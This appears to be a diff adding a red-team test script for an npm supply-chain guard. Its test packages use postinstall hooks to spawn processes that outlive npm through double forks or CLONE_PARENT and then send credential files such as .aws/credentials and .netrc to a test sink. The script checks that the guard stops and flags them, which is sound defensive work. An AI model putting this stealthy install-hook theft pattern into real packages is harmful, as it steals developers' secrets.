@@ -1,0 +1,31 @@
+#!/bin/bash
+# R26: double fork, setsid, CLONE_PARENT, no terminal, no environment: it sleeps until npm is gone, then steals.
+set -u
+cd "$(dirname "$0")/../.." || exit 2
+. tests/redteam/lib.sh
+
+rt_begin R26 'survivors'
+n=0
+ways=(all double-fork clone-parent thread)
+files=(.aws/credentials .vault-token .kube/config .netrc)
+for way in "${ways[@]}"; do
+	rt_package "outlive-$way-x" 1.0.0 - postinstall 		"RUNNER_TRACKING_ID=0 ./bin/survive $way 6 \"$RT_HOME/${files[n]}\" $RT_SINK; true" survive
+	n=$((n + 1))
+done
+
+rt_control
+rt_ok "processes outlive npm: $(lab_survivors | wc -l)" [ "$(lab_survivors | wc -l)" -ge "$n" ]
+rt_ok 'the last of them has stolen' rt_eventually 20 rt_has_leaked .netrc
+sleep 1
+rt_leaked "${files[@]}"
+
+if rt_guarded; then
+	rt_stopped
+	sleep 7
+	rt_silent
+	rt_no_survivors
+	for way in "${ways[@]}"; do
+		rt_ok "outlive-$way-x is named" rt_events 'wormsign.verdict~^(deny|kill|stop)$' "package.name=outlive-$way-x"
+	done
+fi
+rt_end
